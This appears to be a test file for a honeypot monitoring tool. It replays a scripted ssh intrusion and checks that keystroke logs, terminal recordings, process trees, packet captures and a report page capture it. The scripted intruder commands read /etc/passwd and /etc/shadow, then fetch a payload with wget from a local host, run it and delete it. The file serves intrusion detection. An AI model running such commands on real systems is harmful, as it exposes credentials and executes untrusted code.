# SPDX-License-Identifier: GPL-2.0-or-later
"""The honeypot demo: what the outputs make of an intrusion over ssh, against what the intruder's own side knows."""
import filecmp
import importlib.util
import json
import os
import pty
import re
import subprocess
import sys

from harness import QEBEK, TOP, Failure, case, check_counts, expect, folder, json_lines, qebek, read_text

LIMIT = 400
TYPED = [('', 'uname -a; id'), ('', 'cat /etc/passwd'), ('', 'echo second word'), ('', 'ls -a'),
         ('(interrupted)', 'cat /etc/shadow'), ('', "stty -echo; printf 'secret''?'; read -r pw; stty echo"), ('(echo off)', 's3cret'), ('', 'cd /tmp'),
         ('', 'wget -q http://10.0.2.2:PORT/payload'), ('', 'sha256sum payload'), ('', 'chmod +x payload'), ('', './payload'),
         ('', 'echo \u00fc\u20ac'), ('', 'rm payload'), ('', 'exit')]


def asciinema(cast, out):
    """What `asciinema cat` prints of it. It wants a terminal, and is given one, but prints into a file."""
    pid, fd = pty.fork()
    if pid == 0:
        to = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        os.dup2(to, 1)
        os.environ['LC_ALL'] = 'C.UTF-8'
        os.execvp('asciinema', ['asciinema', 'cat', cast])
    said = b''
    try:
        while more := os.read(fd, 4096):
            said += more
    except OSError: # the terminal is gone
        pass
    os.close(fd)
    _, status = os.waitpid(pid, 0)
    expect(status == 0, f'asciinema cat {cast}: status {status}: {said[-300:]!r}')
    with open(out, 'rb') as f:
        return f.read()


def one_of_session(path, kind):
    """The one file in this folder that is about the intruder's terminal."""
    names = [name for name in sorted(os.listdir(path)) if ' from 10.0.2.2:' in read_text(f'{path}/{name}').split('\n')[0]]
    expect(len(names) == 1, f'{kind}: {len(names)} files are about the intruder, of {os.listdir(path)}')
    return f'{path}/{names[0]}'


def check_keys(path):
    lines = read_text(one_of_session(f'{path}/keys', 'keys')).splitlines()
    remotes = {line.split(' pts/0 ')[0].split(' ', 1)[1] for line in lines}
    expect(len(remotes) == 1 and remotes.pop().startswith('session 1 from 10.0.2.2:'), f'where from: {lines[:2]}')
    typed = [line.split(' pts/0 uid 1000 ', 1)[1].split(': ', 1) for line in lines]
    got = [(who.partition(' ')[2], what) for who, what in typed]
    port = got[8][1].split(':')[2].split('/')[0] if len(got) > 8 and got[8][1].count(':') == 2 else '?'
    want = [(mark, what.replace('PORT', port)) for mark, what in TYPED]
    expect(got == want, f'typed: {[(a, b) for a, b in zip(got, want) if a != b] or (got, want)}')
    return len(lines)


def check_cast(path):
    cast = one_of_session(f'{path}/cast', 'cast')
    lines = [json.loads(line) for line in read_text(cast).splitlines()]
    header, events = lines[0], lines[1:]
    expect((header['width'], header['height'], header['session']) == (132, 43, 1), f'{header}')
    expect(header['remote'].startswith('10.0.2.2:'), f'{header}')
    times = [event[0] for event in events]
    expect(times == sorted(times) and times[-1] > 1, f'times: {times[:3]} … {times[-3:]}')
    expect([event[2] for event in events if event[1] == 'r'] == ['100x30'], 'the window is made smaller once')
    with open(f'{path}/typed', 'rb') as f:
        typed = f.read().split(b'\r', 1)[1].decode() # behind the password, which is ssh's and never at this terminal
    expect(''.join(event[2] for event in events if event[1] == 'i') == typed, 'what was typed is not what is recorded')
    with open(f'{path}/screen', 'rb') as f:
        shown = f.read().split(b'password: \r\n', 1)[1]
    played = asciinema(cast, f'{path}/played')
    expect(played == shown, f'asciinema shows {played[-200:]!r}, the intruder saw {shown[-200:]!r}')
    return len(events)


def check_tree(path):
    with open(f'{path}/tree.json', encoding='utf-8') as f:
        tree = json.load(f)
    expect(tree['version'] == 1 and tree['left_out'] == 0 and tree['lost'] == 0, 'the tree is whole')
    processes = {p['process']: p for p in tree['processes']}
    intruder = [p for p in processes.values() if 'session' in p]
    expect(all(p['session'] == 1 and p['remote'].startswith('10.0.2.2:') for p in intruder), f'{intruder[:2]}')
    root = intruder[0]
    expect(root['comm'] == 'dropbear' and 'session' not in processes[root['parent']], f'who serves it: {root}')
    expect(all(p is root or 'session' in processes[p['parent']] for p in intruder), 'one tree below the server\'s child')
    inside = [p for p in processes.values() if p is not root and 'session' in processes.get(p.get('parent'), {})]
    expect(all('session' in p for p in inside), 'all descendants are of the session')
    commands = [p.get('command', p['comm']) for p in intruder] # BusyBox's shell runs some by a fork alone
    for command in ('-sh', 'uname', 'cat /etc/passwd', 'wget -q http://10.0.2.2:', './payload'):
        expect(any(c.startswith(command) for c in commands), f'{command} is not among {commands}')
    shell = next(p for p in intruder if p.get('command') == '-sh')
    expect(shell['uid'] == 1000 and shell['exit'] == 0 and shell['calls'] > 100, f'{shell}')
    text = read_text(f'{path}/tree.txt')
    expect(text.count('session 1 from 10.0.2.2:') == len(intruder), 'the text has as many as the JSON')
    return len(intruder)


def check_lines(path):
    wget = [o for o in json_lines(f'{path}/trace.jsonl')
            if o['type'] == 'call' and o.get('session') == 1 and o['comm'] == 'wget' and o['name'] == 'connect']
    expect(wget and wget[0]['remote'].startswith('10.0.2.2:'), 'wget connects, in the session')


def check_files(path):
    """The program that was dropped, run and deleted was kept: as the guest's sha256sum has it."""
    said = re.search(r'([0-9a-f]{64})  payload', read_text(f'{path}/screen'))
    expect(said, 'sha256sum is not on the screen')
    with open(f'{path}/files/{said.group(1)}', 'rb') as kept, open(f'{path}/web/payload', 'rb') as dropped:
        expect(kept.read() == dropped.read(), 'the file that was kept is not the payload')
    of = [o for o in json_lines(f'{path}/files/manifest.jsonl') if o.get('sha256') == said.group(1)]
    last = of[-1]
    expect(last['complete'] and last['written'] and last['executed'] and last['path'] == '/tmp/payload', f'{last}')
    expect(last['writer']['comm'] == 'wget' and last['remote'].startswith('10.0.2.2:'), f'{last}')


def check_sebek(path):
    """tshark reads the packets, and their counters have no hole."""
    done = subprocess.run(['tshark', '-r', f'{path}/sebek.pcap', '-d', 'udp.port==1101,sebek', '-T', 'fields', '-e',
                           'sebek.counter', '-e', 'sebek.uid', '-e', 'sebek.cmd'], stdin=subprocess.DEVNULL,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, check=False)
    expect(done.returncode == 0, f'tshark: {done.stderr[-300:]}')
    rows = [line.split('\t') for line in done.stdout.splitlines()]
    expect([int(row[0]) for row in rows] == list(range(len(rows))), 'counters have a hole')
    expect(sum(row[1:] == ['1000', 'wget'] for row in rows) > 3, 'wget is not among the packets')


def check_cowrie(path):
    events = list(json_lines(f'{path}/cowrie.json'))
    names = [event['eventid'] for event in events]
    for name in ('cowrie.session.connect', 'cowrie.client.version', 'cowrie.client.size', 'cowrie.command.input', 'cowrie.log.closed',
                 'cowrie.session.closed'):
        expect(name in names, f'no {name} among {sorted(set(names))}')
    said = re.search(r'([0-9a-f]{64})  payload', read_text(f'{path}/screen'))
    files = [event for event in events if event['eventid'] == 'cowrie.session.file_download']
    payload = [event for event in files if event['shasum'] == said.group(1)]
    expect(len(payload) == 1 and payload[0]['destfile'] == '/tmp/payload' and payload[0]['from'].startswith('10.0.2.2:')
           and payload[0]['size'] == os.path.getsize(f'{path}/web/payload') and 'incomplete' not in payload[0], f'files: {files}')


def check_page(path):
    """The page in a browser: the attacker's address beside what was run, and the session to be replayed."""
    folder_of = f'{TOP}/tests/unit/show'
    arguments, sys.argv = sys.argv, ['html.py', QEBEK, '']
    sys.path.insert(0, folder_of)
    try:
        spec = importlib.util.spec_from_file_location('page', f'{folder_of}/html.py')
        page = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(page)
    finally:
        sys.argv = arguments
        sys.path.remove(folder_of)
    browser = page.Browser(path)
    try:
        browser.open(f'{path}/page.html')
        rows = page.view(browser, 'Commands', 'wget')
        expect(rows and all('10.0.2.2:' in row for row in rows), f'commands: {rows}')
        expect(page.view(browser, 'Tree', 'wget'), 'the tree')
        expect(page.view(browser, 'Sessions', ''), 'no session to replay')
        said = re.search(r'([0-9a-f]{64})  payload', read_text(f'{path}/screen'))
        rows = page.view(browser, 'Caught', said.group(1))
        expect(len(rows) == 1 and '/tmp/payload' in rows[0] and '10.0.2.2:' in rows[0], f'caught: {rows}')
        page.no_markup(browser)
        expect(browser.errors() == [], f'{browser.errors()}')
        if os.environ.get('QEBEK_SCREENSHOT'):
            page.view(browser, 'Typed')
            browser.screenshot(os.environ['QEBEK_SCREENSHOT'])
    finally:
        browser.close()


def check_kept(path):
    """What is made of the kept trace is what was made of the running machine."""
    again = folder(os.path.join(os.path.basename(path), 'again'))
    kinds = ('keys:keys', 'cast:cast', 'tree:tree.txt', 'tree:tree.json')
    status, _, err = qebek('read', *(word for kind in kinds for word in
                                     ('--output', kind.replace(':', f':{again}/'))), f'{path}/trace.qbk')
    expect(status == 0 and not err, f'read: {err}')
    for kind in ('keys', 'cast'):
        expect(sorted(os.listdir(f'{path}/{kind}')) == sorted(os.listdir(f'{again}/{kind}')), f'{kind}: other files')
    names = [f'{k}/{name}' for k in ('keys', 'cast') for name in os.listdir(f'{path}/{k}')] + ['tree.txt', 'tree.json']
    _, other, missing = filecmp.cmpfiles(path, again, names, shallow=False)
    expect(not other and not missing, f'live and kept differ: {other} {missing}')


@case('honeypot')
def honeypot(name):
    path = folder(name)
    done = subprocess.run([f'{TOP}/demo/honeypot', path], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, text=True, timeout=LIMIT, check=False)
    if done.returncode != 0:
        raise Failure(f'demo/honeypot: status {done.returncode}: {done.stderr[-500:]}')
    check_counts(f'{path}/trace.qbk')
    keys, events, processes = check_keys(path), check_cast(path), check_tree(path)
    check_lines(path)
    check_files(path)
    check_sebek(path)
    check_cowrie(path)
    check_page(path)
    check_kept(path)
    return f'{keys} commands, {events} events of the terminal, {processes} processes'
